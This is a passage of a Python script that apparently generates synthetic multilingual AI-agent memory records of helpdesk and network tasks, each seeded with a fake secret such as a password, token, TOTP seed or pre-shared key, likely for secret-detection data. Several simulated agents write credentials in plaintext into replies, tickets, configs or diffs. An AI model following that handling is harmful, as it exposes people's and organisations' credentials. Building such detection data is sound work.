        out = [f"<!-- memory {mid} agent={agent} created={when} -->"]
        for k, v in steps:
            out.append(f"**{_KIND_LABEL.get(k, k)}:** {v}")
        return "\n".join(out)
    if style == "kv":
        out = [f"memory_id={mid} agent={agent} ts={when} v=3"]
        for k, v in steps:
            out.append(f"{k.upper()}: {v}")
        return "\n".join(out)
    if style == "log":
        out = []
        pid = _r.randint(1000, 65000)
        t0 = _dt.datetime(2026, _r.randint(1, 11), _r.randint(1, 28), _r.randint(0, 23), _r.randint(0, 59))
        for i, (k, v) in enumerate(steps):
            t0 += _dt.timedelta(milliseconds=_r.randint(300, 45000))
            pre = f"{t0:%Y-%m-%d %H:%M:%S},{t0.microsecond // 1000:03d} INFO {agent}[{pid}] step={i} kind={k} |"
            lines = v.split("\n")
            out.append(f"{pre} {lines[0]}")
            out.extend("    " + ln for ln in lines[1:])
        return "\n".join(out)
    if style == "json":
        return json.dumps({"id": mid, "agent": agent, "created_at": when,
                           "steps": [{"kind": k, "content": v} for k, v in steps]},
                          ensure_ascii=False, indent=1)
    if style == "jsonl":
        return "\n".join(json.dumps({"mid": mid, "seq": i, "kind": k, "content": v}, ensure_ascii=False)
                         for i, (k, v) in enumerate(steps))
    if style == "yaml":
        out = [f"id: {mid}", f"agent: {agent}", f"created: '{when}'", "steps:"]
        for k, v in steps:
            out.append(f"  - kind: {k}")
            if "\n" in v:
                out.append("    text: |")
                out.extend("      " + ln for ln in v.split("\n"))
            else:
                out.append(f"    text: {json.dumps(v, ensure_ascii=False)}")
        return "\n".join(out)
    raise ValueError(style)


HD = "helpdesk-agent"
NET = "netops-agent"
OT = "ot-iot-agent"
PAY = "payments-backoffice"
DE = "data-eng-copilot"
APP = "app-support-bot"
SOC = "soc-analyst"
LEG = "compliance-auditor"
LAB = "research-it"
MED = "newsroom-ops"


# ==========================================================================
# SECRETS
# ==========================================================================

# ---- A. enterprise IT helpdesk & identity --------------------------------
_section("A")
_pw = pw_human()
_inc = tk("INC00", 5)
S("en", rec([
    ("task", f"{_inc} - user m.okafor locked out after MFA re-enrolment; unlock, reset AD password, force change at next logon"),
    ("thought", "Account lives in OU=Finance,OU=Users,DC=corp,DC=example. Unlock first, then set a temporary password."),
    ("tool_call", call("powershell.run", {"host": "DC02.corp.example", "script":
        f"Unlock-ADAccount -Identity m.okafor; Set-ADAccountPassword -Identity m.okafor -Reset -NewPassword "
        f"(ConvertTo-SecureString '{_pw}' -AsPlainText -Force); Set-ADUser m.okafor -ChangePasswordAtLogon $true"})),
    ("tool_output", f"exit=0 elapsed=1.84s objectGUID={guid()} pwdLastSet=0"),
    ("final", f"Unlocked and reset. Temporary password {_pw} read to the user over the phone; must change at next logon."),
    ("lesson", "Read temp passwords out by phone only; do not paste them into the ticket (oops)."),
], HD), _pw)

_pw = pw_human()
S("de", rec([
    ("task", f"Ticket {tk('HD-', 6)}: Neue Mitarbeiterin j.brandt (Einkauf) braucht Okta-Zugang ab Montag."),
    ("tool_call", call("okta.users.create", {"profile": {"login": "j.brandt@example.de", "firstName": "Jana", "lastName": "Brandt"},
                                              "credentials": {"password": {"value": _pw}}, "activate": True})),
    ("tool_output", f'{{"id":"00u{rs(17)}","status":"ACTIVE","created":"{ts()}"}}'),
    ("final", f"Konto angelegt. Initialpasswort: {_pw} – bitte beim ersten Login ändern lassen, MFA-Enrolment folgt."),
    ("lesson", "Initialpasswörter nur über den Vorgesetzten per Telefon weitergeben."),
], HD), _pw)

_tok = okta_ssws()
S("en", rec([
    ("task", "List users stuck in PASSWORD_EXPIRED state in the acme.okta.com org"),
    ("thought", "Use the Users API with a search filter; the read-only admin token from the runbook should work."),
    ("tool_call", call("shell.exec", {"cmd": f"curl -s -H 'Authorization: SSWS {_tok}' 'https://acme.okta.com/api/v1/users?search=status%20eq%20%22PASSWORD_EXPIRED%22&limit=200' | jq length"})),
    ("tool_output", "37"),
    ("final", "37 users are in PASSWORD_EXPIRED; exported list attached to the ticket."),
], HD), _tok)

_sec = azure_secret()
_app = guid()
S("en", rec([
    ("task", "Create a client secret for the 'hr-sync-prod' Entra ID app registration (expires in 180 days)"),
    ("tool_call", call("az.cli", {"args": ["ad", "app", "credential", "reset", "--id", _app, "--append", "--display-name", "hr-sync-2026", "--years", "0.5"]})),
    ("tool_output", json.dumps({"appId": _app, "password": _sec, "tenant": guid()}, indent=2)),
    ("thought", "Store it in Key Vault kv-hr-prod as hr-sync-client-secret and tell the HR integration team the secret name only."),
    ("final", "Secret created and stored in kv-hr-prod/hr-sync-client-secret."),
], HD), _sec)

_codes = recovery_codes(10)
S("fr", rec([
    ("user", "Bonjour, j'ai perdu mon téléphone et je ne peux plus valider la MFA. Vous pouvez m'aider ?"),
    ("thought", "Vérifier l'identité via le manager, puis générer de nouveaux codes de secours."),
    ("tool_call", call("idp.mfa.regenerate_backup_codes", {"user": "c.lefebvre@exemple.fr"})),
    ("tool_output", "codes:\n" + "\n".join(_codes)),
    ("reply", f"Voici vos codes de secours, chacun utilisable une seule fois : {', '.join(_codes[:5])} … Conservez-les en lieu sûr."),
], HD), _codes[2])

_seed = totp_seed()
S("en", rec([
    ("task", "Re-enrol TOTP for kiosk service account svc-kiosk-07 (shared device, no phone)"),
    ("tool_call", call("mfa.enroll_totp", {"user": "svc-kiosk-07", "issuer": "ACME-SSO"})),
    ("tool_output", f"otpauth://totp/ACME-SSO:svc-kiosk-07?secret={_seed}&issuer=ACME-SSO&algorithm=SHA1&digits=6&period=30"),
    ("thought", "Load the seed into the kiosk password manager entry, then verify with one code."),
    ("final", "TOTP enrolled and verified at " + ts() + "."),
], HD), _seed)

_pw = pw_rand(14)
S("ja", rec([
    ("user", f"VPN (GlobalProtect) に接続できません。パスワードは {_pw} で合っているはずです。ユーザー名は tanaka.k です。"),
    ("thought", "ユーザーがチャットにパスワードを書いてしまった。ポータルのログを確認し、パスワード変更を依頼する。"),
    ("tool_call", call("panorama.logs.query", {"type": "globalprotect", "user": "corp\\tanaka.k", "since": "2h"})),
    ("tool_output", f"{ts('log')} gp-portal auth failed: reason=Authentication failed: Invalid username or password src={ipdoc()}"),
    ("reply", "ログでは認証失敗となっています。チャットに書かれたパスワードは漏えい扱いとし、すぐに変更してください。"),
], HD), _pw)

_pw = pw_alnum(18)
S("es", rec([
    ("task", "Configurar SSSD en los servidores de nómina para autenticar contra LDAP"),
    ("thought", "La cuenta de enlace es cn=sssd-bind,ou=svc,dc=empresa,dc=es. Dejo la contraseña en el fichero de forma temporal."),
    ("tool_call", call("ssh.write_file", {"host": "nomina-app-02", "path": "/etc/sssd/sssd.conf", "mode": "0600", "content":
        "[domain/empresa.es]\nid_provider = ldap\nldap_uri = ldaps://ldap.empresa.es\nldap_default_bind_dn = cn=sssd-bind,ou=svc,dc=empresa,dc=es\n"
        f"ldap_default_authtok_type = password\nldap_default_authtok = {_pw}\ncache_credentials = True"})),
    ("tool_output", "written 311 bytes; systemctl restart sssd -> active (running)"),
    ("lesson", "Lección: pasar a authtok ofuscado o keytab en cuanto esté el ticket de PKI."),
], HD), _pw)

_pw = pw_rand(20)
S("en", rec([
    ("task", f"Retrieve the local admin password for workstation WS-LDN-{dg(4)} (user needs to install a printer driver, tech on site)"),
    ("tool_call", call("powershell.run", {"script": "Get-LapsADPassword -Identity WS-LDN-0412 -AsPlainText"})),
    ("tool_output", f"ComputerName        : WS-LDN-0412\nDistinguishedName   : CN=WS-LDN-0412,OU=Workstations,DC=corp,DC=example\nAccount             : Administrator\nPassword            : {_pw}\nPasswordUpdateTime  : {ts()}\nExpirationTimestamp : {ts()}\nSource              : EncryptedPassword\nDecryptionStatus    : Success"),
    ("final", "Gave the LAPS password to the on-site tech; rotation scheduled after use."),
], HD), _pw)

_pw = pw_human()
S("zh", rec([
    ("user", "你好，我忘记了邮箱密码，手机也收不到验证码。"),
    ("thought", "已通过工号和部门经理确认身份，重置 Entra ID 密码。"),
    ("tool_call", call("graph.users.reset_password", {"userId": "li.wei@example.cn", "newPassword": _pw, "forceChangePasswordNextSignIn": True})),
    ("tool_output", "HTTP 204 No Content"),
    ("reply", f"已为您重置。临时密码：{_pw} ，首次登录后系统会要求修改。"),
], HD), _pw)

_otp = dg(6)
S("ko", rec([
    ("user", f"방금 문자로 인증번호 {_otp} 받았는데 입력해도 계속 실패합니다. 대신 입력해 주실 수 있나요?"),
    ("thought", "사용자가 일회용 인증번호를 채팅에 붙여넣음. 대리 입력은 정책상 불가."),
    ("reply", "인증번호는 본인만 입력해야 합니다. 새 번호를 요청해 주세요. 티켓 " + tk("SR-", 6) + " 에 기록했습니다."),
], HD), _otp)

_tap = rs(8, AN + "!#%&*+=?@")
S("en", rec([
    ("task", "Issue a Temporary Access Pass so the new contractor can register passkeys on day one"),
    ("tool_call", call("graph.post", {"url": "/users/r.singh@contoso.example/authentication/temporaryAccessPassMethods", "body": {"lifetimeInMinutes": 480, "isUsableOnce": True}})),
    ("tool_output", json.dumps({"id": guid(), "temporaryAccessPass": _tap, "createdDateTime": ts(), "lifetimeInMinutes": 480, "isUsableOnce": True, "methodUsabilityReason": "EnabledByPolicy"})),
    ("final", "TAP issued (8h, single use) and sent to the contractor's manager via Teams."),
], HD), _tap)

_pw = pw_rand(18)
S("ru", rec([
    ("task", "Перенести задание резервного копирования на новую сервисную учётку svc_veeam_ad"),
    ("thought", "Учётку создали вчера, пароль прислал Игорь в чате. Проверю вход на прокси-сервер."),
    ("note", f"Игорь ({ts('log')}): логин CORP\\svc_veeam_ad, пароль {_pw} — потом положим в хранилище"),
    ("tool_call", call("winrm.test_logon", {"host": "VBR-PRX-01", "user": "CORP\\svc_veeam_ad", "password": _pw})),
    ("tool_output", "logon OK, profile created"),
    ("lesson", "Пароли сервисных учёток сразу переносить в хранилище, а сообщение в чате удалять."),
], HD), _pw)

_pw = pw_rand(16, "!#%*+-=?@_")
S("en", "# inventory/windows.yml  (commit " + sha1h()[:10] + ")\n" + f"""all:
  children:
    windows_fileservers:
      hosts:
        fs01.corp.example:
        fs02.corp.example:
      vars:
        ansible_connection: winrm
        ansible_winrm_transport: ntlm
        ansible_user: CORP\\svc_ansible
        ansible_password: "{_pw}"
        ansible_port: 5986
# helpdesk-agent note: used for the share-permission cleanup (CHG{dg(7)}); rotate + vault after""", _pw)

_pw = pw_human()
S("tr", rec([
    ("user", f"Yeni telefonuma Outlook kurmaya çalışıyorum, kullanıcı adı a.yilmaz@ornek.com.tr şifre {_pw} ama 'hesap eklenemedi' diyor."),
    ("thought", "Kullanıcı şifresini sohbete yazdı. Sorun büyük ihtimalle Intune uyumluluk politikası."),
    ("tool_call", call("intune.device.lookup", {"user": "a.yilmaz@ornek.com.tr"})),
    ("tool_output", f"device=Pixel 8 compliance=noncompliant reason=OS_VERSION serial={rs(12, UP + DG)}"),
    ("reply", "Cihaz uyumsuz görünüyor (işletim sistemi sürümü). Ayrıca şifrenizi burada paylaştığınız için lütfen hemen değiştirin."),
], HD), _pw)

_tok = rs(44, B64U)
S("en", rec([
    ("task", "Set up SCIM provisioning from Entra ID to the Acme Wiki SaaS"),
    ("thought", "Wiki admin console gave a SCIM base URL and a bearer token; paste into the enterprise app provisioning blade."),
    ("tool_call", call("graph.synchronization.secrets.put", {"servicePrincipalId": guid(), "value": [
        {"key": "BaseAddress", "value": "https://wiki.acme-saas.example/scim/v2"}, {"key": "SecretToken", "value": _tok}]})),
    ("tool_output", "HTTP 204; test connection: succeeded"),
    ("final", "SCIM provisioning configured, initial cycle queued."),
], HD), _tok)

_bk = bitlocker_key()
_kid = guid().upper()
S("hi", rec([
    ("user", "मेरा लैपटॉप BitLocker रिकवरी स्क्रीन पर अटका है, key ID " + _kid[:8] + " दिखा रहा है।"),
    ("thought", "Key ID से Entra ID में रिकवरी key निकालनी है।"),
    ("tool_call", call("graph.bitlocker.recoveryKeys.get", {"id": _kid.lower(), "select": "key"})),
    ("tool_output", json.dumps({"id": _kid.lower(), "deviceId": guid(), "key": _bk, "volumeType": "1"})),
    ("reply", f"कृपया यह रिकवरी key डालें: {_bk} . लॉगिन के बाद हम key रोटेट कर देंगे।"),
], HD), _bk)

_pw = pw_human()
S("he", rec([
    ("user", f"היי, המנהל שלי ביקש שאעביר לכם: הסיסמה החדשה של תיבת הדואר המשותפת finance-il היא {_pw}"),
    ("thought", "המשתמש שלח סיסמה בצ'אט. לתעד ולבקש החלפה דרך הפורטל."),
    ("reply", "תודה. סיסמאות לא שולחים בצ'אט – פתחתי בקשה " + tk("REQ", 6) + " להחלפה מיידית."),
], HD), _pw)

_ikey = "DI" + rs(18, UP + DG)
_skey = rs(40, AN)
S("en", rec([
    ("task", "Deploy Duo Authentication Proxy in front of the Cisco ASA for RADIUS MFA"),
    ("tool_call", call("ssh.write_file", {"host": "duoproxy01", "path": "C:\\Program Files\\Duo Security Authentication Proxy\\conf\\authproxy.cfg", "content":
        f"[ad_client]\nhost=10.20.0.10\nservice_account_username=svc_duo\nsearch_dn=DC=corp,DC=example\n\n[radius_server_auto]\nikey={_ikey}\nskey={_skey}\napi_host=api-{hx(8)}.duosecurity.com\nradius_ip_1={ip10()}\nfailmode=safe\nclient=ad_client\nport=1812"})),
    ("tool_output", "service DuoAuthProxy restarted; connectivity tool: all checks passed"),
    ("lesson", "skey is the secret; ikey/api_host are identifiers. Use the proxy's encrypted skey_protected next time."),
], HD), _skey)

_pw = pw_human()
S("vi", rec([
    ("user", "Em bị khóa tài khoản email sau khi nhập sai mật khẩu nhiều lần ạ."),
    ("tool_call", call("ad.unlock_and_reset", {"sam": "nguyen.thao", "new_password": _pw, "must_change": True})),
    ("tool_output", "ok: lockoutTime=0 pwdLastSet=0"),
    ("reply", f"Đã mở khóa. Mật khẩu tạm thời của bạn là {_pw} , vui lòng đổi ngay sau khi đăng nhập."),
], HD), _pw)

_pw = pw_rand(12, "!#%*+=?@")
S("en", rec([
    ("task", "Onboard three summer interns in Google Workspace"),
    ("tool_call", call("gam", {"argv": ["create", "user", "intern.b.osei@acme.example", "firstname", "Ben", "lastname", "Osei", "password", _pw, "changepassword", "on", "org", "/Interns"]})),
    ("tool_output", f"User: intern.b.osei@acme.example, Created\nuid={dg(21)} customerId=C0{rs(7, LO + DG)}"),
    ("final", "Accounts created; initial passwords printed on the welcome letters."),
], HD), _pw)

_pw = pw_human()
S("nl", rec([
    ("task", f"Wachtwoordreset voor p.dejong (melding {tk('M', 7)})"),
    ("thought", "Identiteit gecontroleerd via terugbelnummer uit HR-systeem."),
    ("tool_call", call("ad.reset_password", {"user": "p.dejong", "password": _pw, "unlock": True})),
    ("final", f"Tijdelijk wachtwoord {_pw} telefonisch doorgegeven; gebruiker moet het bij eerste aanmelding wijzigen."),
], HD), _pw)

_pin = pin(6)
S("id", rec([
    ("user", f"Kartu akses saya tidak bisa buka pintu lantai 5. PIN saya {_pin} , sudah benar kok."),
    ("thought", "Pengguna menulis PIN kartu akses di chat. Cek log kontroler pintu."),
    ("tool_call", call("pacs.events", {"badge": "0x" + HX(8), "door": "L5-EAST", "hours": 4})),
    ("tool_output", "DENIED reason=schedule (badge group ACC-Finance not allowed after 19:00)"),
    ("reply", "Masalahnya jadwal akses, bukan PIN. Tolong ganti PIN Anda karena sudah tertulis di chat."),
], HD), _pin)

_pw = pw_human()
S("sv", rec([
    ("task", f"Ärende {tk('SD-', 5)}: låst konto för e.lindqvist efter semestern"),
    ("tool_call", call("ad.reset_password", {"user": "e.lindqvist", "password": _pw, "change_at_logon": True})),
    ("final", f"Kontot upplåst. Tillfälligt lösenord: {_pw} (lämnat muntligt till chefen)."),
    ("lesson", "Skicka aldrig tillfälliga lösenord via e-post."),
], HD), _pw)

_sec = rs(40, B64U)
_oid = "0oa" + rs(17)
S("en", "diff --git a/terraform/okta/apps.tf b/terraform/okta/apps.tf\nindex " + hx(7) + ".." + hx(7) + " 100644\n" + f"""--- a/terraform/okta/apps.tf
+++ b/terraform/okta/apps.tf
@@ -41,6 +41,8 @@ resource "okta_app_oauth" "grafana" {{
   label          = "Grafana"
   type           = "web"
   grant_types    = ["authorization_code", "refresh_token"]
   redirect_uris  = ["https://grafana.acme.example/login/generic_oauth"]
+  client_id      = "{_oid}"
+  client_secret  = "{_sec}"
   token_endpoint_auth_method = "client_secret_basic"
 }}
# review comment (helpdesk-agent): please move client_secret to var.grafana_client_secret + sensitive = true""", _sec)

# ---- B. networking & telecom ---------------------------------------------
_section("B")
_plain = pw_alnum(10)
_t7 = cisco7(_plain)
S("en", rec([
    ("task", f"Audit running-config of edge router rtr-edge-fra-01 (SN {rs(11, UP + DG)}) for weak credentials"),
    ("tool_call", call("netmiko.send_command", {"host": "rtr-edge-fra-01", "command": "show running-config | section username|enable"})),
    ("tool_output", f"enable secret 9 {cisco_type9()}\nusername netops privilege 15 secret 9 {cisco_type9()}\nusername backup privilege 3 password 7 {_t7}\n!"),
    ("thought", "Type 9 entries are scrypt hashes (fine). The 'backup' user uses type 7, which is trivially reversible - that is effectively plaintext."),
    ("final", "Finding NET-114: replace 'password 7' for user backup with 'secret 9'."),
], NET), _t7)

_comm = rs(6, LO) + _r.choice(["RW", "Rw", "_rw"]) + dg(3) + "!"
S("en", f"""! {ts('syslog')} config archive rtr-core-02 (IOS-XE 17.9.4a) archived by netops-agent
hostname rtr-core-02
!
ip access-list standard SNMP-MGMT
 permit 10.50.0.0 0.0.0.255
!
snmp-server community {_comm} RW SNMP-MGMT
snmp-server location DC2 Row-F Rack-12
snmp-server contact noc@acme.example
snmp-server enable traps snmp linkdown linkup
! agent note: RW community still present, change {tk('CHG', 7)} planned to move to SNMPv3 authPriv""", _comm)

_j9 = junos9(26)
S("de", rec([
    ("task", "RADIUS-Server auf den EX-Switches im Werk Augsburg umstellen"),
    ("thought", "Das Shared Secret wird in der Junos-Konfiguration als $9$ gespeichert – das ist nur umkehrbar verschleiert, also wie Klartext behandeln."),
    ("tool_call", call("junos.load_set", {"host": "ex4300-aug-01", "lines": [
        "set system radius-server 10.61.4.20 port 1812",
        f'set system radius-server 10.61.4.20 secret "{_j9}"',
        "set system authentication-order [ radius password ]"]})),
    ("tool_output", "commit complete"),
    ("lesson", "$9$-Werte aus Junos nie in Tickets kopieren; sie lassen sich trivial dekodieren."),
], NET), _j9)

_psk = passphrase(3) + rs(2, UP)
S("en", f"""[admin@MikroTik-Branch-07] > /interface wireless security-profiles export
# {ts('syslog')} by RouterOS 6.49.13
# software id = {rs(4, UP + DG)}-{rs(4, UP + DG)}
# model = RB951Ui-2HnD
# serial number = {HX(12)}
/interface wireless security-profiles
set [ find default=yes ] supplicant-identity=MikroTik
add authentication-types=wpa2-psk mode=dynamic-keys name=staff supplicant-identity="" wpa2-pre-shared-key="{_psk}"
add authentication-types=wpa2-psk mode=dynamic-keys name=guest wpa2-pre-shared-key=*****
# netops-agent: guest key already masked by 'hide-sensitive'; staff key was exported before the flag was added""", _psk)

_psk = pw_alnum(16)
S("fr", rec([
    ("task", "Remplacer le point d'accès du labo (Raspberry Pi + hostapd) en salle B204"),
    ("tool_call", call("ssh.write_file", {"host": "ap-b204", "path": "/etc/hostapd/hostapd.conf", "content":
        f"interface=wlan0\ndriver=nl80211\nssid=LABO-B204\nhw_mode=g\nchannel=6\nwpa=2\nwpa_key_mgmt=WPA-PSK\nrsn_pairwise=CCMP\nwpa_passphrase={_psk}\ncountry_code=FR"})),
    ("tool_output", "hostapd: wlan0: AP-ENABLED"),
    ("final", "Point d'accès remis en service. La clé Wi-Fi a été communiquée au responsable du labo."),
], NET), _psk)

_sec = pw_alnum(24)
S("en", f"""# /etc/freeradius/3.0/clients.conf  -- fetched by netops-agent {ts()} sha256={sha256h()[:16]}
client wlc-hq-01 {{
    ipaddr          = {ip10()}
    secret          = {_sec}
    shortname       = wlc-hq-01
    nas_type        = cisco
    require_message_authenticator = yes
}}
client vpn-asa {{
    ipaddr          = {ip10()}
    secret          = $ENV{{RADIUS_ASA_SECRET}}
}}
# note: wlc-hq-01 still has an inline shared secret; the ASA entry reads from the environment""", _sec)

_psk = pw_rand(28, "!#%*+-=?@_")
S("en", rec([
    ("task", "Bring up site-to-site IPsec between Hamburg office and AWS TGW attachment"),
    ("tool_call", call("ssh.write_file", {"host": "vpn-ham-01", "path": "/etc/ipsec.secrets",
                                           "content": f"# generated {ts()}\n{ipdoc()} {ipdoc()} : PSK \"{_psk}\"\n"})),
    ("tool_call", call("ssh.exec", {"host": "vpn-ham-01", "cmd": "ipsec rereadsecrets && ipsec up aws-tgw-1"})),
    ("tool_output", f"IKE_SA aws-tgw-1[3] established between {ipdoc()}[{ipdoc()}]...{ipdoc()}\nCHILD_SA aws-tgw-1{{7}} established with SPIs c{hx(7)}_i {hx(8)}_o"),
    ("final", "Tunnel 1 up; tunnel 2 pending the second PSK from the AWS console."),
], NET), _psk)

_psk = pw_alnum(20)
S("es", rec([
    ("task", "Alta de túnel IKEv2 con el proveedor de nóminas desde el ASA de Madrid"),
    ("thought", "El proveedor mandó la clave precompartida por correo; la aplico y pido que la cambien después."),
    ("tool_call", call("asa.config", {"host": "asa-mad-01", "lines": [
        f"tunnel-group {ipdoc()} type ipsec-l2l",
        f"tunnel-group {ipdoc()} ipsec-attributes",
        f" ikev2 remote-authentication pre-shared-key {_psk}",
        f" ikev2 local-authentication pre-shared-key {_psk}"]})),
    ("tool_output", "INFO: Security level for \"outside\" set to 0 by default.\nasa-mad-01(config)# write memory\n[OK]"),
    ("lesson", "Lección: las claves precompartidas no deben viajar por correo; usar el portal seguro del proveedor."),
], NET), _psk)

_pw = pw_alnum(16)
_ext = _r.randint(2000, 2999)
S("en", f"""; /etc/asterisk/pjsip.conf  (diff captured by netops-agent during ext. move, ticket {tk('INC', 7)})
[{_ext}]
type=endpoint
context=from-internal
disallow=all
allow=opus,g722,ulaw
auth={_ext}-auth
aors={_ext}

[{_ext}-auth]
type=auth
auth_type=userpass
username={_ext}
password={_pw}

[{_ext}]
type=aor
max_contacts=2""", _pw)

_pw = pw_alnum(14)
S("pt", rec([
    ("task", "Configurar o novo tronco SIP da operadora na central de Lisboa"),
    ("note", f"E-mail da operadora ({ts('log')}): Utilizador: 21{dg(7)} | Palavra-passe: {_pw} | Registrar: sip.operadora-exemplo.pt:5060 | Proxy: {ipdoc()}"),
    ("tool_call", call("freepbx.trunk.update", {"name": "OPERADORA-PT", "username": "21" + dg(7), "secret": _pw, "host": "sip.operadora-exemplo.pt"})),
    ("tool_output", "Registered: yes (expires 3600)"),
    ("final", "Tronco registado; chamadas de teste de entrada e saída OK."),
], NET), _pw)

_auth = pw_alnum(16)
_priv = pw_alnum(16)
S("en", rec([
    ("task", "Move monitoring of core switches from SNMPv2c to SNMPv3 authPriv"),
    ("tool_call", call("netmiko.send_config", {"host": "sw-core-a", "commands": [
        "snmp-server group NMS-RO v3 priv read V3-VIEW",
        f"snmp-server user zabbix NMS-RO v3 auth sha {_auth} priv aes 128 {_priv}",
        "snmp-server view V3-VIEW iso included"]})),
    ("tool_output", "sw-core-a(config)#end\nsw-core-a#write mem\nBuilding configuration...\n[OK]"),
    ("thought", "Same auth/priv pair must go into the Zabbix host macro {$SNMP_AUTH}/{$SNMP_PRIV}."),
], NET), _auth)

_pw = pw_human()
S("it", rec([
    ("task", "Adottare i nuovi AP della sede di Bologna nel controller UniFi"),
    ("thought", "Il controller è unifi.sede-bo.local; l'account admin locale è stato appena cambiato dal fornitore."),
    ("note", f"Credenziali controller: admin / {_pw} (da spostare nel password manager)"),
    ("tool_call", call("unifi.devices.adopt", {"site": "bologna", "macs": [mac(), mac()]})),
    ("tool_output", "2 devices adopting -> provisioning"),
    ("final", "AP adottati e aggiornati al firmware 6.6.77."),
], NET), _pw)

_key = "LUFRPT" + rs(78, B64) + "=="
S("en", rec([
    ("task", "Generate an API key on the Palo Alto firewall for the change-automation pipeline"),
    ("tool_call", call("http.get", {"url": "https://pa-fw-01.acme.example/api/?type=keygen&user=svc-automation&password=${PA_SVC_PW}"})),
    ("tool_output", f"<response status = 'success'><result><key>{_key}</key></result></response>"),
    ("thought", "Key should go to the CI secret store as PANOS_API_KEY."),
], NET), _key)

_tok = rs(30, LO + DG)
S("en", f"""{ts('log')} DEBUG fortigate_client: GET https://fgt-branch-22.acme.example/api/v2/monitor/system/status
{ts('log')} DEBUG fortigate_client: headers={{'Accept': 'application/json', 'Authorization': 'Bearer {_tok}'}}
{ts('log')} DEBUG fortigate_client: 200 OK serial=FGT60F{rs(10, UP + DG)} version=v7.4.5 build2702
{ts('log')} INFO  netops-agent: branch-22 firmware compliant; NOTE debug logging leaks the REST API admin token, disable verbose mode""", _tok)

_psk = passphrase(4, "")
S("cs", "diff --git a/wifi/ssids.yaml b/wifi/ssids.yaml\n" + f"""@@ -12,7 +12,7 @@ ssids:
   - name: ACME-Sklad
     vlan: 240
     security: wpa2-psk
-    psk: ********
+    psk: "{_psk}"
     band: 2.4ghz
# komentář agenta: do repozitáře se dostal skutečný klíč Wi-Fi pro sklad v Ostravě, nutno přegenerovat""", _psk)

_key = hx(40)
S("en", rec([
    ("task", "Pull the list of offline Meraki MR access points for the Lisbon and Porto networks"),
    ("tool_call", call("http.get", {"url": f"https://api.meraki.com/api/v1/organizations/{nz(6)}/devices/statuses?statuses[]=offline",
                                     "headers": {"X-Cisco-Meraki-API-Key": _key, "Accept": "application/json"}})),
    ("tool_output", f'[{{"name":"MR46-LIS-3F","serial":"Q2{rs(2, UP)}-{rs(4, UP + DG)}-{rs(4, UP + DG)}","mac":"{mac()}","status":"offline","lastReportedAt":"{ts()}"}}]'),
    ("final", "1 AP offline in Lisbon (3rd floor); Porto all online."),
], NET), _key)

_key = pw_alnum(18)
S("ru", rec([
    ("task", "Подключить коммутаторы филиала в Казани к TACACS+ (ISE)"),
    ("tool_call", call("netmiko.send_config", {"host": "sw-kzn-acc-01", "commands": [
        "tacacs server ISE-1", f" address ipv4 {ip10()}", f" key 0 {_key}",
        "aaa group server tacacs+ ISE", " server name ISE-1"]})),
    ("tool_output", "% Warning: key 0 is stored in clear text, consider 'service password-encryption'"),
    ("lesson", "Ключ TACACS вводить через 'key 6' с master key, а не открытым текстом."),
], NET), _key)

_md5 = pw_alnum(14)
S("en", f"""router bgp 64512
 bgp log-neighbor-changes
 neighbor {ipdoc()} remote-as 3356
 neighbor {ipdoc()} description TRANSIT-A ckt {rs(3, UP)}/{dg(6)}/ /{rs(3, UP)}
 neighbor {ipdoc()} password {_md5}
 neighbor {ipdoc()} remote-as 174
 neighbor {ipdoc()} password 7 <removed>
!
! netops-agent {ts()}: transit-A MD5 session key is in clear text in this snippet (copied from the carrier's welcome letter)""", _md5)

_pw = pw_alnum(12)
S("no", rec([
    ("task", "Bytte passord på brannmuren i Tromsø etter at leverandøren hadde tilgang"),
    ("tool_call", call("ssh.exec", {"host": "fw-tos-01", "cmd": f"configure; set system login user netadmin authentication plain-text-password-value {_pw}; commit"})),
    ("tool_output", "commit complete"),
    ("final", "Passordet er byttet. Nytt passord er lagt i delt hvelv «Nettverk/Tromsø»."),
], NET), _pw)

_pw = pw_alnum(10)
S("ar", rec([
    ("user", f"الإنترنت في فرع جدة مقطوع. بيانات PPPoE من مزود الخدمة: اسم المستخدم jed-br-{dg(5)}@isp.example وكلمة المرور {_pw}"),
    ("thought", "إعادة ضبط بيانات PPPoE على الراوتر ثم التحقق من الجلسة."),
    ("tool_call", call("routeros.exec", {"host": "rtr-jed", "cmd": f"/interface pppoe-client set pppoe-out1 user=jed-br-{dg(5)}@isp.example password={_pw}"})),
    ("tool_output", "pppoe-out1: connected, uptime 00:00:12"),
    ("reply", "تمت استعادة الاتصال. يرجى عدم مشاركة كلمة المرور في المحادثة مستقبلاً."),
], NET), _pw)

_pw = pw_alnum(12)
S("fi", rec([
    ("task", "Uudet Yealink-puhelimet Tampereen toimistoon – provisiointitiedosto"),
    ("tool_call", call("tftp.put", {"server": ip10(), "file": f"{mac('', False)}.cfg", "content":
        f"#!version:1.0.0.1\naccount.1.enable = 1\naccount.1.user_name = 3581{dg(4)}\naccount.1.auth_name = 3581{dg(4)}\naccount.1.password = {_pw}\naccount.1.sip_server.1.address = pbx.tre.example.fi\nsecurity.user_name.admin = admin"})),
    ("tool_output", "sent 412 bytes"),
    ("lesson", "Provisiointitiedostot pitäisi salata (AES) tai jakaa HTTPS:llä ja asiakasvarmenteella."),
], NET), _pw)

_puk = dg(8)
S("uk", rec([
    ("user", f"SIM-карта в LTE-роутері банкомата заблокована. Оператор дав PUK: {_puk}. ICCID {iccid()}"),
    ("thought", "Потрібно ввести PUK через AT-команду на модемі та встановити новий PIN."),
    ("tool_call", call("modem.at", {"device": "atm-lte-0931", "cmd": f'AT+CPIN="{_puk}","{pin(4)}"'})),
    ("tool_output", "OK\n+CPIN: READY"),
    ("reply", "SIM розблоковано, зв'язок відновлено."),
], NET), _puk)

_tok = hx(32)
_sid = twilio_sid()
S("en", rec([
    ("task", "Check why the on-call SMS alerts stopped at 02:00"),
    ("tool_call", call("shell.exec", {"cmd": f"curl -s -u {_sid}:{_tok} https://api.twilio.com/2010-04-01/Accounts/{_sid}/Messages.json?PageSize=5"})),
    ("tool_output", '{"code": 20003, "message": "Authenticate", "status": 401}'),
    ("thought", "401 with the current auth token - it was probably rotated by finance last night. Need the new one from the Twilio console."),
], NET), _tok)

_pw = pw_alnum(10)
S("th", rec([
    ("user", f"ขอรหัส Wi-Fi สำหรับแขกที่ห้องประชุมชั้น 12 ครับ"),
    ("thought", "ดึงรหัสผ่าน guest ประจำสัปดาห์จาก controller"),
    ("tool_call", call("wlc.guest_psk.current", {"ssid": "ACME-Guest", "site": "BKK-HQ"})),
    ("tool_output", f'{{"ssid":"ACME-Guest","psk":"{_pw}","valid_until":"{ts()}"}}'),
